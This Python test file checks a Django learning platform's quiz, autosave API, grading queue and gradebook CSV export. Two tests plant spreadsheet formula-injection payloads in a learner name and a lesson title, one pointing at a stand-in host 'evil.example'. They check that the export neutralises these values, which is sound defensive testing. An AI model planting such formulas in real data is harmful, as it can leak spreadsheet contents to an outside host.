"""The quiz pages, autosave API, assignment uploads, grading queue and gradebook over HTTP."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.core import mail

from assessments.models import Answer, AssessmentKind, Attempt, AttemptStatus, QuestionKind
from enrollments.services import enrollment_create
from tests.fixtures import client_for

from .factories import answers_for, make_assessed_course


@pytest.fixture
def learner(in_tenant):
    return get_user_model().objects.get(email="learner@acme.test")


@pytest.fixture
def quiz(in_tenant, learner):
    course, lesson, assessment = make_assessed_course(slug="web-quiz", attempts_allowed=3)
    enrollment_create(user=learner, course=course)
    return course, lesson, assessment


def _form_data(assessment, right=True) -> dict:
    data: dict[str, str | list[str]] = {"form": "attempt"}
    for question_id, response in answers_for(assessment, right=right).items():
        value = next(iter(response.values()))
        data[f"q{question_id}"] = [str(v) for v in value] if isinstance(value, list) else str(value).lower()
        if isinstance(value, str):
            data[f"q{question_id}"] = value
    return data


def test_lesson_page_links_to_the_quiz_and_the_learner_takes_it(
    quiz, in_tenant, django_assert_max_num_queries
):
    course, lesson, assessment = quiz
    client = client_for(in_tenant, as_role="learner")
    page = client.get(f"/learning/{course.slug}/lessons/{lesson.pk}/").content.decode()
    assert f"/assessments/{course.slug}/lessons/{lesson.pk}/" in page
    overview = client.get(f"/assessments/{course.slug}/lessons/{lesson.pk}/")
    assert overview.status_code == 200 and "3 attempts allowed" in overview.content.decode()
    started = client.post(f"/assessments/{course.slug}/lessons/{lesson.pk}/start/")
    attempt = Attempt.objects.get(user__email="learner@acme.test")
    assert started["Location"] == f"/assessments/{course.slug}/attempts/{attempt.pk}/"
    with django_assert_max_num_queries(20):
        take = client.get(started["Location"])
    body = take.content.decode()
    assert take.status_code == 200 and "Capital of France?" in body and "data-answers-url" in body
    form = _form_data(assessment)
    with django_assert_max_num_queries(25):  # not one query per question
        summary = client.post(f"/assessments/{course.slug}/attempts/{attempt.pk}/submit/", form)
    assert summary.status_code == 200 and "You answered all 5 questions." in summary.content.decode()
    with django_assert_max_num_queries(25):
        done = client.post(f"/assessments/{course.slug}/attempts/{attempt.pk}/submit/", {"confirm": "1"})
    assert done.status_code == 302
    result = client.get(done["Location"]).content.decode()
    assert "Handed in. You passed with 100 of 100 (5 of 5 points)." in result
    assert "data-score>100 of 100" in result and "right answer" in result  # AFTER_LAST: shown after passing
    again = client.post(
        f"/assessments/{course.slug}/attempts/{attempt.pk}/submit/", _form_data(assessment, False)
    )
    assert "already handed in" in client.get(again["Location"]).content.decode()
    attempt.refresh_from_db()
    assert attempt.score == Decimal("100.00")


def test_autosave_api_saves_answers_and_refuses_bad_input_with_json_errors(quiz, in_tenant):
    course, _, assessment = quiz
    client = client_for(in_tenant, as_role="learner")
    client.post(f"/assessments/{course.slug}/lessons/{assessment.lesson_id}/start/")
    attempt = Attempt.objects.get(user__email="learner@acme.test")
    url = f"/assessments/{course.slug}/attempts/{attempt.pk}/answers/"
    single = assessment.questions.get(kind=QuestionKind.SINGLE)
    other_choice = assessment.questions.get(kind=QuestionKind.MULTIPLE).choices.first()

    def post(body, **extra):
        return client.post(
            url, body if isinstance(body, str) else json.dumps(body), content_type="application/json"
        )

    ok = post({"answers": {str(single.pk): {"choice": single.choices.first().pk}}})
    assert ok.status_code == 200 and ok.json()["saved"] == 1
    assert post("not json").status_code == 400
    assert post({"answers": []}).status_code == 400
    wrong_choice = post({"answers": {str(single.pk): {"choice": other_choice.pk}}})
    assert wrong_choice.status_code == 422 and "does not belong" in wrong_choice.json()["error"]
    assert wrong_choice.json()["errors"].keys() == {str(single.pk)}
    assert post({"answers": {"999999": {"choice": 1}}}).json()["errors"].keys() == {"999999"}
    huge = post({"answers": {str(single.pk): {"text": "x" * 70_000}}})
    assert huge.status_code == 413
    assert Answer.objects.get(attempt=attempt).response == {"choice": single.choices.first().pk}
    # Another learner's client gets 404 for this attempt, as if it did not exist.
    instructor = client_for(in_tenant, as_role="instructor")
    assert instructor.post(url, "{}", content_type="application/json").status_code == 404
    assert instructor.get(f"/assessments/{course.slug}/attempts/{attempt.pk}/").status_code == 404
    client.post(f"/assessments/{course.slug}/attempts/{attempt.pk}/submit/", {"confirm": "1"})
    closed = post({"answers": {str(single.pk): {"choice": single.choices.last().pk}}})
    assert closed.status_code == 409 and "already submitted" in closed.json()["error"]


def test_people_not_enrolled_get_403_with_the_reason(in_tenant):
    course, lesson, _ = make_assessed_course(slug="closed-quiz")
    client = client_for(in_tenant, as_role="learner")
    # A locked quiz answers like a locked lesson: visible, not open, with the reason.
    page = client.get(f"/assessments/{course.slug}/lessons/{lesson.pk}/")
    assert page.status_code == 403 and "Enroll in this course" in page.content.decode()
    assert client.post(f"/assessments/{course.slug}/lessons/{lesson.pk}/start/").status_code == 403
    assert not Attempt.objects.exists()


def test_assignment_is_handed_in_and_graded_in_the_queue(
    in_tenant, learner, django_capture_on_commit_callbacks
):
    # Files go straight to S3 first (assessments/tests/test_uploads.py); here, a written answer.
    course, lesson, assessment = make_assessed_course(
        slug="essay-course", kind=AssessmentKind.ASSIGNMENT, passing_score=Decimal("50")
    )
    criterion = assessment.rubric.create(title="Argument", points=Decimal("10"))
    enrollment_create(user=learner, course=course)
    client = client_for(in_tenant, as_role="learner")
    url = f"/assessments/{course.slug}/lessons/{lesson.pk}/"
    empty = client.post(url, {"text": "  "})
    assert empty.status_code == 400 and "Write your answer or attach a file" in empty.content.decode()
    assert not Attempt.objects.exists()
    handed = client.post(url, {"text": "My argument."})
    attempt = Attempt.objects.get()
    assert handed.status_code == 302 and attempt.status == AttemptStatus.SUBMITTED
    assert (attempt.asset_id, attempt.file.name) == (None, "")
    assert client.get(f"/assessments/{course.slug}/attempts/{attempt.pk}/file/").status_code == 404

    instructor = client_for(in_tenant, as_role="instructor")
    assert instructor.get("/assessments/grading/").content.decode().count("essay-course") == 0
    assert instructor.get(f"/assessments/grading/{attempt.pk}/").status_code == 404  # not their course
    assert instructor.get(f"/assessments/{course.slug}/attempts/{attempt.pk}/file/").status_code == 404
    assert client.get("/assessments/grading/").status_code == 404  # learners have no queue
    assert client.get(f"/assessments/grading/{attempt.pk}/").status_code == 404
    course.instructors.add(get_user_model().objects.get(email="instructor@acme.test"))
    queue = instructor.get("/assessments/grading/").content.decode()
    assert f"/assessments/grading/{attempt.pk}/" in queue
    assert f"/assessments/{course.slug}/gradebook/" in queue
    bad = instructor.post(f"/assessments/grading/{attempt.pk}/", {f"c{criterion.pk}": "11"})
    assert bad.status_code == 400 and "between 0 and 10" in bad.content.decode()
    attempt.refresh_from_db()
    assert attempt.status == AttemptStatus.SUBMITTED
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        graded = instructor.post(
            f"/assessments/grading/{attempt.pk}/", {f"c{criterion.pk}": "7", "comment": "Solid."}
        )
    assert graded.status_code == 302
    attempt.refresh_from_db()
    assert attempt.score == Decimal("70.00") and attempt.passed
    assert len(mail.outbox) == 1 and mail.outbox[0].to == ["learner@acme.test"]
    result = client.get(f"/assessments/{course.slug}/attempts/{attempt.pk}/").content.decode()
    assert "70" in result and "Solid." in result
    assert "Nothing to grade" in instructor.get("/assessments/grading/").content.decode()


def test_gradebook_counts_best_or_last_and_exports_csv(in_tenant, learner):
    from assessments.services import attempt_start, attempt_submit

    course, _, assessment = make_assessed_course(slug="booked", grade_policy="best")
    learner.full_name = "=HYPERLINK(evil)"
    learner.save()
    enrollment_create(user=learner, course=course)
    for right in (True, False):
        attempt = attempt_start(user=learner, course=course, assessment=assessment)
        attempt_submit(user=learner, attempt=attempt, answers=answers_for(assessment, right=right))
    admin = client_for(in_tenant, as_role="admin")
    page = admin.get(f"/assessments/{course.slug}/gradebook/")
    assert page.status_code == 200 and "100 ✓" in page.content.decode()
    exported = admin.get(f"/assessments/{course.slug}/gradebook/", {"format": "csv"})
    assert exported["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(exported.content.decode())))
    assert rows[0][:2] == ["Learner", "E-mail"] and rows[1] == [
        "'=HYPERLINK(evil)",
        "learner@acme.test",
        "100.00",
    ]
    assessment.grade_policy = "last"
    assessment.save()
    rows = list(
        csv.reader(
            io.StringIO(admin.get(f"/assessments/{course.slug}/gradebook/?format=csv").content.decode())
        )
    )
    assert rows[1][2] == "0.00"
    assert (
        client_for(in_tenant, as_role="learner").get(f"/assessments/{course.slug}/gradebook/").status_code
        == 404
    )


def test_a_quiz_lesson_without_questions_yet_says_so(in_tenant, learner):
    from courses.models import Lesson

    course, lesson, assessment = make_assessed_course(slug="unready", publish=False)
    assessment.delete()
    from courses.services import course_publish

    course_publish(actor=get_user_model().objects.get(email="admin@acme.test"), course=course)
    enrollment_create(user=learner, course=course)
    client = client_for(in_tenant, as_role="learner")
    page = client.get(f"/assessments/{course.slug}/lessons/{lesson.pk}/")
    assert page.status_code == 200 and "not ready yet" in page.content.decode()
    assert client.post(f"/assessments/{course.slug}/lessons/{lesson.pk}/start/").status_code == 404
    reading = Lesson.objects.get(module__course=course, kind="text")
    assert client.get(f"/assessments/{course.slug}/lessons/{reading.pk}/").status_code == 404


def test_gradebook_csv_neutralizes_a_formula_in_a_lesson_title(in_tenant, learner):
    """A quiz lesson titled like a formula is text in the export's header (it ran as one before)."""
    from courses.models import Lesson

    course, lesson, _ = make_assessed_course(slug="formula-book", publish=False)
    Lesson.objects.filter(pk=lesson.pk).update(title='=HYPERLINK("https://evil.example/?"&B2)')
    from courses.services import course_publish

    course_publish(actor=get_user_model().objects.get(email="admin@acme.test"), course=course)
    enrollment_create(user=learner, course=course)
    exported = client_for(in_tenant, as_role="admin").get(f"/assessments/{course.slug}/gradebook/?format=csv")
    header = next(csv.reader(io.StringIO(exported.content.decode())))
    assert header[2].startswith("'=HYPERLINK(")
